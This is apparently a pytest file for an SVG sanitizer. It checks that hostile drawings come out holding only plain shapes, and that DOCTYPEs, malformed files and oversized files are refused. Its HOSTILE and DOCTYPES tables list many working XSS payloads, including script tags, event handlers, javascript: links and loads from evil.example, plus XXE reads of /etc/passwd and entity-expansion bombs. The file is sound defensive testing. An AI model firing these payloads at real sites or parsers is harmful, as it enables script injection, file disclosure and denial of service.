"""Hostile drawings: whatever an SVG brings along, only plain shapes come out, and nothing is expanded on the way."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.errors import BrokenRule
from officers.plans import svg_rules
from officers.plans.sanitize import clean

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50"'
RECT = '<rect x="1" y="2" width="3" height="4"/>'
KEPT = '<rect height="4" width="3" x="1" y="2"></rect>'


def svg(inside: str, attributes: str = "") -> bytes:
    """A drawing that holds this, and one rectangle."""
    return f"{OPEN} {attributes}>{inside}{RECT}</svg>".encode()


class Found(HTMLParser):
    """Every element and attribute of a cleaned drawing, as a browser would read it."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {name for name, _value in attrs}


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script with source": '<script xlink:href="https://evil.example/x.js"/>',
    "script in another case": "<SCRIPT>alert(1)</SCRIPT>",
    "script under a prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "page inside": "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'><img onerror='y()'/></p></foreignObject>",
    "handler": '<g onclick="alert(1)" onload="alert(1)"/>',
    "handler of another namespace": '<g xmlns:e="http://www.w3.org/2001/xml-events" e:onclick="alert(1)"/>',
    "style element": "<style>@import url(https://evil.example/x.css);</style>",
    "style that loads": '<rect style="fill:url(https://evil.example/x);background:url(//evil)" width="1" height="1"/>',
    "style that escapes": '<rect style="fill:red&quot; onload=&quot;alert(1)" width="1" height="1"/>',
    "link": '<a xlink:href="javascript:alert(1)"><title>x</title></a>',
    "plain href": '<a href="javascript:alert(1)"/>',
    "image": '<image href="https://evil.example/x.png" width="9" height="9"/>',
    "image as data": '<image xlink:href="data:image/svg+xml;base64,PHN2Zz4=" width="9" height="9"/>',
    "use of elsewhere": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "use of itself": '<defs><g id="a"><use href="#a"/></g></defs><use href="#a"/>',
    "animation of a link": '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    "set": '<set attributeName="onload" to="alert(1)"/>',
    "filter": '<filter id="f"><feImage href="https://evil.example/x"/></filter><rect filter="url(#f)"/>',
    "paint from elsewhere": '<rect fill="url(https://evil.example/x#y)" width="1" height="1"/>',
    "mask": '<mask id="m"/><rect mask="url(#m)" clip-path="url(https://evil.example/#c)" width="1" height="1"/>',
    "embedded page": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
    "form": '<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input/></form>',
    "instruction": '<?xml-stylesheet href="https://evil.example/x.css"?>',
    "comment that ends": "<!-- --><script>alert(1)</script><!-- -->",
    "cdata": "<text><![CDATA[<script>alert(1)</script>]]></text>",
    "text as markup": "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>",
    "attribute as markup": '<text x="1&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</text>',
    "path as markup": '<path d="M0 0&quot; onload=&quot;alert(1)"/>',
    "transform as markup": '<g transform="rotate(1)&quot;onload=&quot;x"/>',
    "id that takes a place": '<g id="main" class="vh" name="login" tabindex="0"/>',
    "base": '<g xml:base="https://evil.example/"/>',
    "handler element": '<handler type="text/ecmascript">alert(1)</handler>',
    "listener": '<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>',
    "nested drawing": '<svg onload="alert(1)"><script>1</script></svg>',
    "discard and video": '<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/><discard href="#x"/>',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_run_load_or_lead_away_is_left_out(name: str) -> None:
    markup = clean(svg(HOSTILE[name])).markup
    found = Found(markup)
    assert markup.endswith(KEPT)
    assert found.elements <= svg_rules.KEPT
    assert found.attributes <= {attribute.lower() for attribute in svg_rules.ATTRIBUTES}
    assert not re.search(r"evil|url\(|javascript|data:|href|<!|<\?", markup)


DOCTYPES = {
    "laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    + OPEN
    + "><text>&b;</text></svg>",
    "file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + OPEN + "><text>&x;</text></svg>",
    "elsewhere": '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">' + OPEN + ">" + RECT + "</svg>",
    "parameter": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>' + OPEN + ">" + RECT + "</svg>",
    "bare": "<!DOCTYPE svg>" + OPEN + ">" + RECT + "</svg>",
}


@pytest.mark.parametrize("name", DOCTYPES)
def test_a_doctype_is_refused_before_anything_is_expanded(name: str) -> None:
    with pytest.raises(BrokenRule, match="DOCTYPE") as refusal:
        clean(DOCTYPES[name].encode())
    assert set(refusal.value.fields) == {"file"}


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "not a whole SVG"),
        (b"<svg", "not a whole SVG"),
        (svg("<g>"), "not a whole SVG"),
        (svg("<text>&unknown;</text>"), "not a whole SVG"),
        (b"<html><body/></html>", "no SVG drawing"),
        (b"<svg><rect/></svg>", "no SVG drawing"),
        (b'<html xmlns="http://www.w3.org/2000/svg"/>', "no SVG drawing"),
        (OPEN.encode() + b"><script/></svg>", "no plain shapes"),
        (OPEN.encode() + b"><image/></svg>", "no plain shapes"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', "how large"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 9"><rect/></svg>', "how large"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e9 9"><rect/></svg>', "how large"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan 9"><rect/></svg>', "how large"),
        (svg("<g>" * 60 + "</g>" * 60), "too deeply"),
        (svg("<x>" * 60 + "</x>" * 60), "too deeply"),
        (svg("<g/>" * 20_001), "too many parts"),
        (svg(f'<path d="{"M0 0" * 40_000}"/>' * 8), "too many parts"),
        (svg(" " * (2 * 1024 * 1024)), "too large"),
        (b'<?xml version="1.0" encoding="utf-7"?>' + svg(""), "unknown encoding|not a whole"),
        (b'<?xml version="1.0" encoding="no-such"?>' + svg(""), "unknown encoding|not a whole"),
    ],
)
def test_what_is_no_drawing_is_refused_in_words(content: bytes, said: str) -> None:
    with pytest.raises(BrokenRule, match=said):
        clean(content)


def test_what_drawing_programs_write_is_kept() -> None:
    drawing = (
        '<g transform="translate(10, 20) scale(2)" style="fill:#ccc;stroke:black;stroke-width:1.5px;font-family:Arial">'
        '<path d="M 0,0 h 10 v -10 z" fill-rule="evenodd"/><polygon points="0,0 9,0 9,9"/>'
        '<text x="5" y="5" font-size="12">Gym &amp; <tspan>Stage</tspan></text></g>'
    )
    found = clean(svg(drawing, 'width="200mm" height="100mm"'))
    assert (found.left, found.top, found.width, found.height) == (0, 0, 100, 50)
    for part in (
        '<g fill="#ccc" stroke="black" stroke-width="1.5px" transform="translate(10, 20) scale(2)">',
        '<path d="M 0,0 h 10 v -10 z" fill-rule="evenodd"></path>',
        'y="5">Gym &amp; <tspan>Stage</tspan></text>',
    ):
        assert part in found.markup


def test_a_drawing_in_utf_16_is_read_as_it_is() -> None:
    text = '<?xml version="1.0" encoding="utf-16"?>' + svg("<script>x</script><text>Á</text>").decode()
    assert clean(text.encode("utf-16")).markup == f"<text>Á</text>{KEPT}"


def test_a_cleaned_drawing_stays_as_it_is() -> None:
    once = clean(svg(HOSTILE["attribute as markup"] + '<g fill="red"><text>a &lt; b</text></g>')).markup
    assert clean(f"{OPEN}>{once}</svg>".encode()).markup == once


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="<>&\"'/=! svgrectonloadhref:javascript()#;[]-", max_size=120))
def test_no_text_whatever_comes_out_as_anything_but_plain_shapes(text: str) -> None:
    try:
        markup = clean(svg(text)).markup
    except BrokenRule:
        return
    found = Found(markup)
    assert found.elements <= svg_rules.KEPT
    assert found.attributes <= {attribute.lower() for attribute in svg_rules.ATTRIBUTES}
